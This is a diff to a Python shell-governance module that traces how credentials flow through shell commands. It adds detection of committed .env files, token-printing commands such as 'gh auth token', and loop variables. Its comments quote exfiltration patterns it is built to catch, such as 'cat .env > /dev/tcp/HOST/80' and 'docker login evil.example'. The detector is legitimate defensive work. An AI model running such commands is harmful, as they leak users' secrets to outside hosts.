@@ -41,7 +41,7 @@ Carried = tuple[str, str, str]   # (label, how it got here, where it goes)
 class Flow:
     """What carries a secret so far in one command."""
 
-    __slots__ = ("cmds", "files", "pending", "reads", "remotes", "sourced", "vars")
+    __slots__ = ("cmds", "files", "pending", "reads", "remotes", "sourced", "staged", "vars")
 
     def __init__(self) -> None:
         self.vars: dict[str, list[str]] = {}          # variable -> the secrets it holds
@@ -51,6 +51,7 @@ class Flow:
         self.remotes: dict[str, tuple[list[str], str]] = {}   # git remote -> its URL's secrets, host
         self.sourced: list[str] = []                  # secret files sourced (not read here)
         self.pending: dict[int, tuple[str, str]] = {}  # id(Simple) -> a print its reader may hide
+        self.staged: list[str] = []                   # secret files git add staged
 
 
 def flow(an: Walk) -> Flow:
@@ -210,15 +211,22 @@ def command(an: Walk, base: str, fields: list[str | None], raws: list[str], seg:
         where = _where(option, text, base, an.shell)
         used = option in credentials or k in written or text.split("=", 1)[0] in credentials
         option = text if text[:1] == "-" and "=" not in text else None
-        if files and not metadata and not used:
-            path = paths(home(field, raw))
+        if files and not metadata and not used and raw not in an.prose:   # not -m TEXT
+            path = paths(field) if field is not None else home(None, paths(raw.replace('"', "")) or "")
             label = secret_file(an, path)
             if label is not None:
                 named.append((label, f"the secret file {path}", where))
         carried.extend((label, how, where) for label, how in word(an, raw, field))
     fed = [(label, how, "on standard input") for label, how in stdin(an, cmd)]
-    dumped = _dump(an, base, fields, table)
+    printed = _printed(base, fields, table)
+    dumped = _dump(an, base, fields, table) + printed
+    if base == "git" and sub in ("add", "stage"):                # git add .env && git push
+        staged = [secret_file(an, paths(f)) for f in fields[2:]]
+        flow(an).staged.extend(label for label in staged if label is not None)
     state = an.flow
+    if base == "git" and sub == "push" and state is not None and state.staged:
+        carried.extend((label, "a secret file committed in this command", "in the commits")
+                       for label in state.staged)
     if base == "git" and state is not None and state.remotes and len(fields) > 2 and \
             fields[2] in state.remotes:              # git push origin: origin's URL holds it
         carried.extend((label, f"the URL of the remote {fields[2]}", "in the remote's URL")
@@ -228,13 +236,22 @@ def command(an: Walk, base: str, fields: list[str | None], raws: list[str], seg:
     if connection:                               # cat .env > /dev/tcp/HOST/80
         everything = [(label, how, "through the connection") for label, how, _w in everything]
     source = cmd.piped_from if cmd is not None else None
+    hides = sink or metadata or base not in _READING_PROGRAMS
     if state is not None and source is not None and id(source) in state.pending and (
-            sink or metadata or base not in _READING_PROGRAMS or _filtered(an, base, cmd)):
+            hides or _filtered(an, base, cmd)):
         _hide(an, *state.pending.pop(id(source)))   # env | grep PATH, echo $T | docker login
+    if state is not None and state.pending and hides:     # curl -H "$(gh auth token)" ...
+        feeding = {c[1][len("the output of `"):-1] for c in carried
+                   if c[1].startswith("the output of `")}
+        for key, (pseg, _reason) in list(state.pending.items()):
+            if pseg in feeding:
+                _hide(an, *state.pending.pop(key))
     if sink:
         shaped = _shaped(raws)
         everything.extend(shaped)
         _exfiltration(an, base, seg, everything, hosts)
+        if printed:                               # gh auth token: it prints, it sends nothing
+            _reading(an, base, seg, cmd, [], [], [], printed, metadata)
     else:
         redirected = [c for c in fed if c[1].startswith("the secret file")]   # jq . < .env
         _reading(an, base, seg, cmd, [*named, *redirected], carried, fed, dumped, metadata)
@@ -286,6 +303,21 @@ def _dump(an: Walk, base: str, fields: list[str | None], table: dict[str, Any]) 
     return []
 
 
+def _printed(base: str, fields: list[str | None], table: dict[str, Any]) -> list[str]:
+    """``gh auth token``, ``aws configure get ...``: a command that prints a credential, as the
+    variable it counts as (``secret_flow.secret_commands``)."""
+    lines = table.get("secret_commands", {}).get(base)
+    if not lines:
+        return []
+    words = [f for f in fields if f is not None and f[:1] != "-"]
+    words[0] = base
+    for k in range(len(words), 1, -1):
+        name = lines.get(" ".join(words[:k]))
+        if name is not None:
+            return [f"${name}"]
+    return []
+
+
 def _sink(an: Walk, base: str, fields: list[str | None], raws: list[str], seg: str,
           cmd: Simple | None, table: dict[str, Any], mark: int
           ) -> tuple[list[str], bool, bool]:
@@ -308,11 +340,10 @@ def _sink(an: Walk, base: str, fields: list[str | None], raws: list[str], seg: s
     connection = not dns and not network
     default = table.get("default_hosts", {}).get(base)
     if default is not None:                     # gh pr list: api.github.com
-        hosts.append(default)
-        for k, field in enumerate(fields[1:], 1):
-            if field is not None and ("://" in field or (fields[k - 1] == "login" and
-                                                         _dotted(an, field))):
-                hosts.append(_named(field, field))   # docker login evil.example
+        login = fields.index("login") if "login" in fields else len(fields)
+        named = [_named(field, field) for k, field in enumerate(fields[1:], 1)
+                 if field is not None and ("://" in field or (k > login and _dotted(an, field)))]
+        hosts.extend(named or [default])     # docker login evil.example: that registry alone
     elif spec.get("requests"):
         from governance.shell.rules import parse_spec
 
@@ -478,10 +509,11 @@ def _reading(an: Walk, base: str, seg: str, cmd: Simple | None, named: list[Carr
         labels = list(dict.fromkeys(c[0] for c in named))
         _read(an, seg, f"{base} reads {files}, which holds credentials (secrets.paths: "
                        f"{', '.join(labels)})", labels)
-    secret_vars = [c[0] for c in [*carried, *fed] if c[0][:1] == "$" and
-                   c[1] == "environment variable"]
+    shown = [c for c in [*carried, *fed] if c[1] == "environment variable" or
+             c[1].startswith("the file ")]       # echo $TOKEN, cat /tmp/x written with it
+    secret_vars = [c[0] for c in shown]
     if dumped or (secret_vars and base not in _QUIET and base not in _DECLARERS and
-                  base in _READING_PROGRAMS):
+                  base in _READING_PROGRAMS and not (cmd is not None and _redirected(an, cmd))):
         labels = list(dict.fromkeys([*dumped, *secret_vars]))
         what = "the environment, where secret variables live" if "the environment" in labels \
             else ", ".join(labels)
@@ -584,6 +616,25 @@ def _remember(an: Walk, base: str, fields: list[str | None], raws: list[str],
     elif base == "git" and len(fields) > 4 and fields[1] == "remote" and \
             fields[2] in ("add", "set-url") and fields[3] is not None:
         state.remotes[str(fields[3])] = (labels, _named(fields[4], raws[4]))
+
+
+def loop(an: Walk, name: str) -> None:
+    """``for NAME in WORDS``: NAME holds the secret files among the values it takes, and what
+    the words' substitutions and variables carry."""
+    from governance.shell.loops import UNKNOWN
+
+    found: list[str] = []
+    for value in an.loops.get(name, ()):
+        if value.startswith(UNKNOWN):
+            found.extend(label for label, _how in word(an, value[len(UNKNOWN):]))
+        else:
+            label = secret_file(an, value)
+            if label is not None:
+                found.append(label)
+    if found:
+        flow(an).vars[name] = list(dict.fromkeys(found))
+    elif an.flow is not None:
+        an.flow.vars.pop(name, None)
 
 
 def assign(an: Walk, name: str, raw: str) -> None:
